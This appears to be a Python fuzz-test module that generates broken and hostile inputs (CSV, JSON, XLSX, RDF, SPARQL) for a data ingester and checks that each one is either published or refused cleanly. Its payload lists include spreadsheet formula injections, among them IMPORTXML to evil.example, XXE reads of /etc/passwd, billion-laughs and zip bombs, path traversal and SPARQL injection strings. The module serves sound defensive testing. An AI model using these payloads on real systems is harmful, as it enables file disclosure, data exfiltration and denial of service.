"""Input generators and the outcome check shared by the fuzz tests and the long campaign (fuzz/campaign.py).

Each generator is a hypothesis strategy that starts from a valid input of an
ingester (the awkward CORDIS export, the stakeholder template, a small RDF
file) and breaks it in one of the ways files break in the wild: another
encoding, a byte-order mark, the wrong separator, an unbalanced quote, a NUL
byte, an enormous field or row, a formula, a truncation, flipped bytes,
random text in a cell.  :func:`ingest_outcome` runs one input through
:func:`echos_graph.ingest.ingest_source` and checks the property every input
must have: it is published, or it is refused with a clear
:class:`~echos_graph.errors.DataError` (or NotConformingError) and the store
is left exactly as it was.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pyoxigraph as ox
from hypothesis import strategies as st

from echos_graph.errors import DataError, NotConformingError, QueryError, RemoteError

DATA = Path(__file__).resolve().parent / "data"
AWKWARD = DATA / "cordis-awkward"
TEMPLATE = Path(__file__).resolve().parent.parent / "src" / "echos_graph" / "templates" / "stakeholders.csv"

#: What a refused input may raise; anything else is a failure of the property.
CLEAR_ERRORS = (DataError, NotConformingError, QueryError, RemoteError)

FORMULAS = ("=1+1", "=HYPERLINK(\"http://evil.example/\",\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")")
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32", "latin-1", "cp1252", "mac-roman")
BOMS = (b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\x00\x00\xfe\xff", b"\xef\xbb\xbf\xef\xbb\xbf")
# Text that tends to break readers: quotes, separators, controls, surrogate-free oddities, IRI-breaking characters.
NASTY = ("\"", "\"\"", ";", ",", "\t", "\r", "\n", "\r\n", "\x00", "\x0b", "\x1b[31m", "\u2028", "\ufeff", "\ufffe",
         "<", ">", "{", "}", "|", "\\", "^", "`", " ", "http://a b", "http://[", "http://a<b>", "https://ex.org/\x7f",
         "😀", "\u0301", "ℌ", "İ", "ß", "'", "&lt;", "]]>", "%00", "../../etc/passwd", "0" * 400, "9" * 5000)


def dump(store) -> bytes:
    """Return the store's quads as sorted N-Quads: equal dumps mean an unchanged store."""
    out = io.BytesIO()
    store.dump(out, ox.RdfFormat.N_QUADS)
    return b"\n".join(sorted(out.getvalue().splitlines()))


def ingest_outcome(store, kind: str, location: Path | str, **options) -> str:
    """Ingest ``location``; return 'ok' or the error class name, asserting an unchanged store on error."""
    from echos_graph.ingest import ingest_source

    before = dump(store)
    try:
        ingest_source(store, kind, str(location), name="fuzz", options=options or None)
    except CLEAR_ERRORS as exc:
        assert str(exc).strip(), "an error without a message"
        assert dump(store) == before, f"the store changed although the ingest failed: {exc}"
        return type(exc).__name__
    return "ok"


# -- byte-level mutations ----------------------------------------------------------------


@st.composite
def mutate_bytes(draw, data: bytes, *, separator: str = ",", binary: bool = False) -> bytes:
    """Break ``data`` (a valid text file, or any file if ``binary``) in one of the ways files break."""
    ways = ["encoding", "bom", "separator", "quote", "nul", "big-field", "many-rows", "formula", "truncate", "flip",
            "insert", "nasty", "line-endings", "empty", "garbage"]
    how = draw(st.sampled_from(["truncate", "flip", "insert", "garbage"] if binary else ways))
    text = "" if binary else data.decode("utf-8-sig")
    if how == "encoding":
        encoding = draw(st.sampled_from(ENCODINGS))
        return text.encode(encoding, errors="replace")
    if how == "bom":
        return draw(st.sampled_from(BOMS)) + data
    if how == "separator":
        other = draw(st.sampled_from([s for s in (",", ";", "\t", "|") if s != separator]))
        return text.replace(separator, other).encode()
    if how == "line-endings":
        return text.replace("\n", draw(st.sampled_from(["\r\n", "\r", "\n\n"]))).encode()
    if how == "empty":
        return draw(st.sampled_from([b"", b"\n", b" \n\t", b"\xef\xbb\xbf", text.split("\n", 1)[0].encode()]))
    if how == "garbage":
        return draw(st.binary(max_size=300))
    at = draw(st.integers(0, len(data)))
    if how == "quote":
        return data[:at] + b'"' + data[at:]
    if how == "nul":
        return data[:at] + b"\x00" + data[at:]
    if how == "big-field":
        size = draw(st.sampled_from([70_000, 1_000_000, 3_000_000]))
        return data[:at] + b"x" * size + data[at:]
    if how == "many-rows":
        lines = text.splitlines(keepends=True)
        body = "".join(lines[1:]) if len(lines) > 1 else "x\n"
        return (lines[0] + body * draw(st.integers(50, 400))).encode()
    if how == "formula":
        return data[:at] + draw(st.sampled_from(FORMULAS)).encode() + data[at:]
    if how == "truncate":
        return data[:at]
    if how == "flip":
        flips = draw(st.lists(st.tuples(st.integers(0, max(len(data) - 1, 0)), st.integers(0, 255)), min_size=1,
                              max_size=8))
        out = bytearray(data)
        for position, value in flips:
            if out:
                out[position % len(out)] = value
        return bytes(out)
    if how == "insert":
        return data[:at] + draw(st.binary(min_size=1, max_size=40)) + data[at:]
    # nasty: a string that breaks readers, inside a cell
    return data[:at] + draw(st.sampled_from(NASTY)).encode("utf-8", errors="surrogatepass") + data[at:]


@st.composite
def csv_cells(draw, data: bytes, *, separator: str = ",") -> bytes:
    """Rewrite one cell of a valid CSV file with nasty text, keeping the CSV itself well formed."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))
    row = draw(st.integers(1, len(rows) - 1))
    column = draw(st.integers(0, len(rows[row]) - 1))
    value = draw(st.one_of(st.sampled_from(NASTY + FORMULAS), st.text(max_size=30),
                           st.builds(lambda a, b: a + b, st.sampled_from(NASTY), st.text(max_size=10))))
    rows[row][column] = value.replace("\x00", "")  # NUL is refused before any cell is read; see mutate_bytes
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=separator, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
    return out.getvalue().encode("utf-8")


# -- CORDIS JSON ----------------------------------------------------------------------------

JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20)
    | st.sampled_from(NASTY + ("\ud800", "\udfff", "\ud83d")),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)


def awkward_as_json() -> dict[str, list[dict[str, object]]]:
    """Return the awkward CORDIS export as the records of its JSON layout."""
    files = {}
    for stem in ("project", "organization"):
        with open(AWKWARD / f"{stem}.csv", encoding="utf-8-sig", newline="") as handle:
            files[stem] = list(csv.DictReader(handle, delimiter=";"))
    return files


@st.composite
def cordis_json_files(draw) -> dict[str, bytes]:
    """Return the two files of a JSON export, one of them broken."""
    records = awkward_as_json()
    target = draw(st.sampled_from(["project", "organization"]))
    texts = {stem: json.dumps(rows, indent=1, ensure_ascii=False).encode() for stem, rows in records.items()}
    how = draw(st.sampled_from(["value", "bytes", "deep", "huge-number", "escape"]))
    if how == "value":
        rows = records[target]
        row = rows[draw(st.integers(0, len(rows) - 1))]
        key = draw(st.sampled_from(sorted(row) + ["extra"]))
        row[key] = draw(JSON_VALUES)
        texts[target] = json.dumps(rows, indent=1, ensure_ascii=False).encode("utf-8", errors="surrogatepass")
    elif how == "bytes":
        texts[target] = draw(mutate_bytes(texts[target]))
    elif how == "deep":
        depth = draw(st.sampled_from([1_000, 50_000, 200_000]))
        texts[target] = b"[" + b"[" * depth + b"]" * depth + b"]"
    elif how == "huge-number":
        texts[target] = texts[target].replace(b'"1"', b"1" + b"0" * draw(st.sampled_from([10, 5000, 100_000])), 1)
    else:
        escape = draw(st.sampled_from([rb"\ud800", rb"\u0000", rb"\udfff\ud800", rb"\x41", rb"\u12", b"\\"]))
        texts[target] = texts[target].replace(b"Synthetic", escape + b"Synthetic", 1)
    return {f"{stem}.json": text for stem, text in texts.items()}


# -- XLSX -----------------------------------------------------------------------------------

XLSX_CELLS = st.one_of(
    st.none(), st.booleans(), st.integers(-10**20, 10**20), st.floats(allow_nan=True, allow_infinity=True),
    st.dates(), st.datetimes(), st.sampled_from(FORMULAS), st.text(max_size=30),
    st.sampled_from([n for n in NASTY if not any(ord(c) < 32 and c not in "\t\n\r" for c in n)]),
    st.just("x" * 40_000),
)


def _workbook(rows: list[list[object]]) -> bytes:
    import openpyxl
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row])
    out = io.BytesIO()
    book.save(out)
    return _deterministic(out.getvalue())


def _deterministic(book: bytes) -> bytes:
    """Return the workbook with fixed times inside and in the zip, so that the same rows give the same bytes."""
    import re

    source = zipfile.ZipFile(io.BytesIO(book))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2026-01-01T00:00:00Z", data)
            target.writestr(zipfile.ZipInfo(info.filename, date_time=(2026, 1, 1, 0, 0, 0)), data,
                            compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def template_rows() -> list[list[str]]:
    """Return the stakeholder template: header and example row."""
    return list(csv.reader(io.StringIO(TEMPLATE.read_text(encoding="utf-8"))))


_SHEET = ('<?xml version="1.0"?>{doctype}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
          '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{value}</t></is></c></row></sheetData></worksheet>')
_ENTITY_BOMB = _SHEET.format(doctype='<!DOCTYPE lolz [<!ENTITY lol0 "lol">' + "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)) + "]>", value="&lol9;")
_XXE = _SHEET.format(doctype='<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', value="&xxe;")


def _replace_part(book: bytes, part: str, content: bytes) -> bytes:
    """Return the workbook with one zip member replaced (or added)."""
    source = zipfile.ZipFile(io.BytesIO(book))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != part:
                target.writestr(info, source.read(info.filename))
        target.writestr(zipfile.ZipInfo(part, date_time=(2026, 1, 1, 0, 0, 0)), content,
                        compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


@st.composite
def xlsx_files(draw) -> bytes:
    """Return a stakeholder workbook: the template with odd cells, or a broken or hostile file."""
    header, example = template_rows()
    how = draw(st.sampled_from(["cells", "cells", "rows", "bytes", "bomb", "xxe", "zip-bomb", "header"]))
    if how == "cells":
        row: list[object] = list(example)
        for _ in range(draw(st.integers(1, 3))):
            row[draw(st.integers(0, len(row) - 1))] = draw(XLSX_CELLS)
        return _workbook([header, row])
    if how == "header":
        head: list[object] = list(header)
        head[draw(st.integers(0, len(head) - 1))] = draw(XLSX_CELLS)
        return _workbook([head, example])
    if how == "rows":
        return _workbook([header] + [example] * draw(st.integers(2, 300)))
    book = _workbook([header, example])
    if how == "bytes":
        return draw(mutate_bytes(book, binary=True))
    if how == "bomb":
        return _replace_part(book, "xl/worksheets/sheet1.xml", _ENTITY_BOMB.encode())
    if how == "xxe":
        return _replace_part(book, "xl/worksheets/sheet1.xml", _XXE.encode())
    # zip bomb: a sheet that inflates to hundreds of megabytes
    cell = '<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>' + "x" * 1000 + "</t></is></c></row>"
    body = "".join(cell.format(r=r) for r in range(2, 2 + 1000)).encode()
    sheet = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             b"<sheetData>" + body * 300 + b"</sheetData></worksheet>")
    return _replace_part(book, "xl/worksheets/sheet1.xml", sheet)


# -- RDF --------------------------------------------------------------------------------------

RDF_TTL = """@prefix echo: <https://w3id.org/echos-graph/ontology#> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
@prefix org: <http://www.w3.org/ns/org#> .
<https://example.org/org/new> a echo:Organisation ;
    skos:prefLabel "A New Patient Association" ;
    echo:country <https://w3id.org/echos-graph/id/country/NO> ;
    org:classification <https://w3id.org/echos-graph/id/sector/PAT> .
"""

#: Suffix -> syntax, as the rdf ingester reads them.
RDF_SUFFIXES = {".ttl": ox.RdfFormat.TURTLE, ".nt": ox.RdfFormat.N_TRIPLES, ".nq": ox.RdfFormat.N_QUADS,
                ".trig": ox.RdfFormat.TRIG, ".jsonld": ox.RdfFormat.JSON_LD, ".rdf": ox.RdfFormat.RDF_XML}


def rdf_bytes(suffix: str) -> bytes:
    """Return the small valid RDF file in the syntax of ``suffix``."""
    fmt = RDF_SUFFIXES[suffix]
    quads = list(ox.parse(RDF_TTL, format=ox.RdfFormat.TURTLE))
    if fmt.supports_datasets:
        return ox.serialize([ox.Quad(q.subject, q.predicate, q.object, ox.NamedNode("https://example.org/g"))
                             for q in quads], format=fmt)
    return ox.serialize([ox.Triple(q.subject, q.predicate, q.object) for q in quads], format=fmt)


def billion_laughs(levels: int = 9, fanout: int = 10) -> bytes:
    """Return RDF/XML whose one literal expands to 3 * fanout**levels characters."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * fanout}">' for i in range(1, levels + 1))
    return (f'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [{entities}]>\n'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">'
            f'<rdf:Description rdf:about="http://example.org/a"><ex:p>&lol{levels};</ex:p></rdf:Description>'
            "</rdf:RDF>").encode()


def quadratic_blowup(size: int = 100_000, references: int = 20_000) -> bytes:
    """Return RDF/XML with one large entity referenced many times (no nesting)."""
    return (f'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [<!ENTITY a "{"a" * size}">]>\n'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">'
            f'<rdf:Description rdf:about="http://example.org/a"><ex:p>{"&a;" * references}</ex:p></rdf:Description>'
            "</rdf:RDF>").encode()


def external_entity(target: str, *, parameter: bool = False) -> bytes:
    """Return RDF/XML that names ``target`` in an external (general or parameter) entity."""
    if parameter:
        dtd = f'<!ENTITY % ext SYSTEM "{target}"> %ext;'
        body = "x"
    else:
        dtd = f'<!ENTITY xxe SYSTEM "{target}">'
        body = "&xxe;"
    return (f'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [{dtd}]>\n'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">'
            f'<rdf:Description rdf:about="http://example.org/a"><ex:p>{body}</ex:p></rdf:Description>'
            "</rdf:RDF>").encode()


def hostile_rdf(suffix: str, target: str) -> list[bytes]:
    """Return inputs of the syntax ``suffix`` that try to read ``target`` (a file URL) or exhaust memory."""
    big = "x" * 5_000_000
    if suffix == ".rdf":
        return [billion_laughs(), quadratic_blowup(), external_entity(target), external_entity(target, parameter=True),
                f'<?xml version="1.0"?><!DOCTYPE rdf:RDF SYSTEM "{target}"><rdf:RDF '
                'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>'.encode()]
    if suffix == ".jsonld":
        return [json.dumps({"@context": target, "@id": "http://example.org/a", "p": "v"}).encode(),
                json.dumps({"@context": [{"@import": target}], "@id": "http://example.org/a"}).encode(),
                b"[" * 100_000 + b"]" * 100_000,
                json.dumps({"@id": "http://example.org/a", "http://example.org/p": big}).encode()]
    if suffix in (".ttl", ".trig"):
        return [f"@base <{target}> . <a> <b> <c> .".encode(), ("<http://e/a> <http://e/p> " + "(" * 30_000 + ")" * 30_000
                                                              + " .").encode(),
                f'<http://e/a> <http://e/p> "{big}" .'.encode()]
    return [f'<http://e/a> <http://e/p> "{big}" {"<http://e/g> " if suffix == ".nq" else ""}.'.encode()]


# -- SPARQL -------------------------------------------------------------------------------------

PARAMETER_VALUES = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=10),  # surrogates too
    st.sampled_from(NASTY),
    st.sampled_from(['" } ; DROP ALL ; #', "> } UNION { ?s ?p ?o } #", "\" . ?s ?p ?o . FILTER(\"", "id:hub/NO> ?x <",
                     "?hub", "$hub", "true", "1e999", "NaN", "-Infinity", "1_000", "٤٢", "2025-02-30", "+1", "0x10",
                     "id:", "http://", "urn:x", "a:b c", "javascript:alert(1)", "<http://e/>", "\"x\"@en", "1" * 5000]),
)

SPARQL_TEXT = st.one_of(
    st.text(max_size=80),
    st.lists(st.sampled_from(["SELECT", "ASK", "CONSTRUCT", "DESCRIBE", "WHERE", "{", "}", "(", ")", "?s", "?p", "?o",
                              "*", ".", ";", ",", "FILTER", "REGEX", "\"a\"", "<http://e/>", "GRAPH", "SERVICE",
                              "<http://127.0.0.1:9/sparql>", "LOAD", "INSERT DATA", "DROP ALL", "BIND", "AS", "VALUES",
                              "UNION", "OPTIONAL", "LIMIT", "1", "PREFIX", "x:", "#", "\n", "LATERAL", "COUNT", "GROUP BY",
                              "ORDER BY", "\"\"\"", "'", "@en", "^^", "a", "echo:Organisation"]), max_size=25
             ).map(" ".join),
)
